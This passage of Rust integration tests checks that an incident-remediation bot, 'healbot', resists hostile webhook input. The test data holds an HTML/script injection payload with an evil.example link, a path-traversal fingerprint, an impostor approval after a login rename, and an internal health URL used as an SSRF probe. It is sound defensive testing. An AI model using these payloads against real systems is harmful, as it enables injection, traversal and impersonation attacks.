        // A judge that wants more samples than the harness gives: the canary waits at 10%.
        let policies = policies_with(
            state.path(),
            &[("canary.yaml", "min_samples: 10\n", "min_samples: 100\n")],
        );
        let mut t = App::start_in(
            state,
            AppOptions {
                policies_dir: Some(policies),
                ..AppOptions::default()
            },
        )
        .await;
        t.alert().await;
        t.fake.expect_comments(&["The fix is ready for review"]);
        t.production.heal();
        t.approve(1, 1).await;
        t.fake.expect_comments(&[
            "approved",
            "10% of traffic",
            "Canary at 10%: **Inconclusive**",
        ]);
        let main = t.fake.branch(REPO, "main");
        for trigger in ["on-rollout-aborted", "on-rollout-completed"] {
            post_json(&mut t, "/webhooks/argo", &argo(trigger, "default", 7)).await;
        }
        assert_eq!(t.states().await, [OpState::PausedForHumanReview]);
        assert_eq!(t.fake.branch(REPO, "main"), main, "nothing written to Git");
        t.fake.expect_comments(&[]);
        t.fake.assert_clean();
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn argo_events_must_name_the_plans_namespace_and_revision() {
        let mut t = App::start_with(AppOptions {
            repo_config: Some(ARGO_CONFIG.into()),
            ..AppOptions::default()
        })
        .await;
        t.alert().await;
        t.fake.expect_comments(&["The fix is ready for review"]);
        t.production.heal();
        t.approve(1, 1).await;
        t.fake
            .expect_comments(&["approved", "Argo Rollouts runs the canary steps"]);
        // Another namespace's Rollout of the same name.
        post_json(
            &mut t,
            "/webhooks/argo",
            &argo("on-rollout-aborted", "shop", 7),
        )
        .await;
        post_json(
            &mut t,
            "/webhooks/argo",
            &argo("on-rollout-completed", "shop", 7),
        )
        .await;
        t.fake.expect_comments(&[]);
        assert_eq!(t.states().await, [OpState::Deploying(0)]);
        // The first revision reported is the operation's …
        let mut step = argo("on-rollout-step-completed", "payments", 7);
        step["step"] = json!(1);
        step["phase"] = json!("Progressing");
        post_json(&mut t, "/webhooks/argo", &step).await;
        t.fake
            .expect_comments(&["revision 7 finished canary step 1"]);
        // … so an abort or completion of another revision changes nothing,
        post_json(
            &mut t,
            "/webhooks/argo",
            &argo("on-rollout-aborted", "payments", 6),
        )
        .await;
        let mut done = argo("on-rollout-completed", "payments", 8);
        done["phase"] = json!("Healthy");
        post_json(&mut t, "/webhooks/argo", &done).await;
        // and one without a revision cannot move it either.
        let mut bare = done.clone();
        bare.as_object_mut().unwrap().remove("revision");
        post_json(&mut t, "/webhooks/argo", &bare).await;
        t.fake.expect_comments(&[]);
        assert_eq!(t.states().await, [OpState::Deploying(0)]);
        // The abort of its own revision rolls back, Argo's message quoted inert.
        post_json(
            &mut t,
            "/webhooks/argo",
            &argo("on-rollout-aborted", "payments", 7),
        )
        .await;
        t.fake.expect_comments(&[
            "Argo Rollouts aborted `payments/payment-service` revision 7",
            "Rolled back",
        ]);
        let comments = t.fake.bot_comments();
        let abort = &comments[comments.len() - 2];
        assert!(
            !abort.contains("<img") && !abort.contains("@alice"),
            "{abort}"
        );
        assert_eq!(t.states().await, [OpState::RolledBack]);
        t.fake.assert_clean();
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn alert_text_reaches_the_pr_body_inert() {
        let mut t = App::start().await;
        let summary = "<img src=x onerror=alert(1)> **5xx** [login](http://evil.example) \
                       @alice #1 <!-- healbot:op-x/comment/review-requested --> | x";
        let body = json!({
            "version": "4", "groupKey": "{}:{service=\"payment-service\"}", "truncatedAlerts": 0,
            "status": "firing", "receiver": "healbot",
            "groupLabels": {"service": "payment-service"},
            "commonLabels": {"service": "payment-service", "severity": "critical"},
            "commonAnnotations": {}, "externalURL": "http://alertmanager:9093",
            "alerts": [{
                "status": "firing",
                "labels": {"alertname": "HighErrorRate", "service": "payment-service",
                           "severity": "critical", "team": "<b>@payments</b>"},
                "annotations": {"summary": summary, "description": "@everyone <script>"},
                "startsAt": "2026-11-28T02:00:00Z", "endsAt": "0001-01-01T00:00:00Z",
                "generatorURL": "http://prometheus:9090/graph", "fingerprint": "5f1e2d3c4b5a6978"
            }]
        });
        post_json(&mut t, "/webhooks/alertmanager", &body).await;
        t.fake.expect_comments(&["The fix is ready for review"]);
        let pr = t
            .app
            .orchestrator()
            .forge
            .pull_request(&RepoRef(REPO.into()), PrNumber(1))
            .await
            .unwrap();
        for raw in [
            "<img", "<!--", "@alice", "[login](", "**5xx**", "<b>", "<script", "@every",
        ] {
            assert!(!pr.body.contains(raw), "{raw} in the PR body:\n{}", pr.body);
        }
        assert!(pr.body.contains("&lt;img src=x"), "{}", pr.body);
        t.fake.assert_clean();
    }
}

// ---- §5: ids from alerts cannot leave their folder or spell another branch or key ----

mod hostile_ids {
    use crate::support::app::{post_json, App};
    use serde_json::json;

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_fingerprint_with_dot_dot_stays_inside_the_scratch_folder() {
        let mut t = App::start().await;
        let fingerprint = "/../../../x/";
        let body = json!({
            "version": "4", "groupKey": "{}:{service=\"payment-service\"}", "truncatedAlerts": 0,
            "status": "firing", "receiver": "healbot",
            "groupLabels": {"service": "payment-service"},
            "commonLabels": {"service": "payment-service", "severity": "critical"},
            "commonAnnotations": {}, "externalURL": "http://alertmanager:9093",
            "alerts": [{
                "status": "firing",
                "labels": {"alertname": "HighErrorRate", "service": "payment-service"},
                "annotations": {"summary": "5xx ratio 16% for 2 minutes"},
                "startsAt": "2026-11-28T02:00:00Z", "endsAt": "0001-01-01T00:00:00Z",
                "generatorURL": "http://prometheus:9090/graph", "fingerprint": fingerprint
            }]
        });
        post_json(&mut t, "/webhooks/alertmanager", &body).await;
        t.fake.expect_comments(&["The fix is ready for review"]);
        let op = t.operations().await.remove(0);
        let safe = |s: &str| {
            s.chars()
                .all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
                && !s.contains("..")
        };
        assert!(safe(&op.id.0), "{}", op.id);
        assert!(safe(&op.correlation_id), "{}", op.correlation_id);
        // The branch exists under its safe name.
        let branch = format!("healbot/{}", op.correlation_id);
        assert!(t.fake.branch(crate::support::app::REPO, &branch).is_some());
        // The export and the check ran in the scratch folder, not two levels above it.
        let escaped = t.state.path().join("x");
        assert!(!escaped.exists(), "{} was written", escaped.display());
        let scratch = App::state_dir(t.state.path()).join("scratch");
        assert!(scratch.join(&op.id.0).join("patched").is_dir());
        t.fake.assert_clean();
    }
}

// ---- §9: approvers by user id; health_url only to allowed hosts, generic on the PR ----

mod smaller_ones {
    use crate::delivery::{approve, assert_rolled_back};
    use crate::support::app::{review, App, AppOptions, FULL_ROLLOUT, SERVICE_DIR};
    use crate::support::prometheus::serve_http;
    use healbot::operation::OpState;
    use serde_json::json;
    use std::sync::Arc;

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn an_allowed_user_id_is_not_whoever_holds_the_login_now() {
        // alice is user 1005 in the harness (`person`).
        let config = std::fs::read_to_string(format!("{SERVICE_DIR}/.github/healbot.yml"))
            .unwrap()
            .replace("allow: []", "allow: [1005]");
        let mut t = App::start_with(AppOptions {
            repo_config: Some(config),
            ..AppOptions::default()
        })
        .await;
        t.alert().await;
        t.fake.expect_comments(&["The fix is ready for review"]);
        let head = t.head(1).await;
        // Someone who took over the login `alice` after a rename: another id.
        let mut impostor = review(1, "alice", "approved", &head, 9301);
        impostor["sender"]["id"] = json!(424242);
        impostor["review"]["user"]["id"] = json!(424242);
        t.deliver("pull_request_review", "r-impostor", &impostor)
            .await;
        t.fake.expect_comments(&["only `user id 1005` may"]);
        assert_eq!(t.state_of_only_operation().await, OpState::AwaitingReview);
        t.production.heal();
        t.approve(1, 9302).await;
        t.fake.expect_comments(&FULL_ROLLOUT);
        t.fake.assert_clean();
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn an_allowed_login_stays_with_the_user_who_held_it_when_the_config_was_read() {
        let config = std::fs::read_to_string(format!("{SERVICE_DIR}/.github/healbot.yml"))
            .unwrap()
            .replace("allow: []", "allow: [alice]");
        let mut t = App::start_with(AppOptions {
            repo_config: Some(config),
            ..AppOptions::default()
        })
        .await;
        // The alert makes healbot read the config: `alice` is pinned to user 1005.
        t.alert().await;
        t.fake.expect_comments(&["The fix is ready for review"]);
        let head = t.head(1).await;
        // alice renames her account to alice-2; someone else registers `alice`.
        t.fake.set_user_id("alice", 424242);
        let mut impostor = review(1, "alice", "approved", &head, 9301);
        impostor["sender"]["id"] = json!(424242);
        impostor["review"]["user"]["id"] = json!(424242);
        t.deliver("pull_request_review", "r-impostor", &impostor)
            .await;
        t.fake
            .expect_comments(&["`alice` in `approvers.allow` is user id 1005, pinned"]);
        assert_eq!(t.state_of_only_operation().await, OpState::AwaitingReview);
        let pins =
            std::fs::read_to_string(App::state_dir(t.state.path()).join("approver-ids.json"))
                .unwrap();
        assert!(pins.contains("\"alice\": 1005"), "{pins}");
        // alice, under her new login, is still the one the entry means.
        t.production.heal();
        let mut alice = review(1, "alice-2", "approved", &head, 9302);
        alice["sender"]["id"] = json!(1005);
        alice["review"]["user"]["id"] = json!(1005);
        t.deliver("pull_request_review", "r-renamed", &alice).await;
        t.fake.expect_comments(&FULL_ROLLOUT);
        t.fake.assert_clean();
    }

    #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
    async fn a_health_url_outside_the_allowlist_is_not_fetched_or_shown() {
        let (addr, seen) = serve_http(Arc::new(|_| {
            (200, "text/plain".into(), "internal admin".into())
        }))
        .await;
        let config = std::fs::read_to_string(format!("{SERVICE_DIR}/.github/healbot.yml"))
            .unwrap()
            .replace(
                "manifests: [\"deploy/rollout.yaml\"]",
                &format!(
                    "manifests: [\"deploy/rollout.yaml\"]\n    health_url: http://{addr}/admin"
                ),
            );
        let mut t = App::start_with(AppOptions {
            repo_config: Some(config),
            ..AppOptions::default()
        })
        .await;
        t.alert().await;
        t.fake.expect_comments(&["The fix is ready for review"]);
        let comments = approve(&mut t).await;
        assert!(seen.lock().unwrap().is_empty(), "healbot asked {addr}");
        let verification = comments
            .iter()
            .find(|c| c.starts_with("Verification at 100%"))
            .unwrap();
        assert!(verification.contains("not allowed"), "{verification}");
        assert!(!verification.contains(&addr.to_string()), "{verification}");
        assert_rolled_back(&t, &comments, "verification at 100% failed").await;
        let mut expected = FULL_ROLLOUT.to_vec();
        expected.push("Rolled back");
        t.fake.expect_comments(&expected);
        t.fake.assert_clean();
    }
}
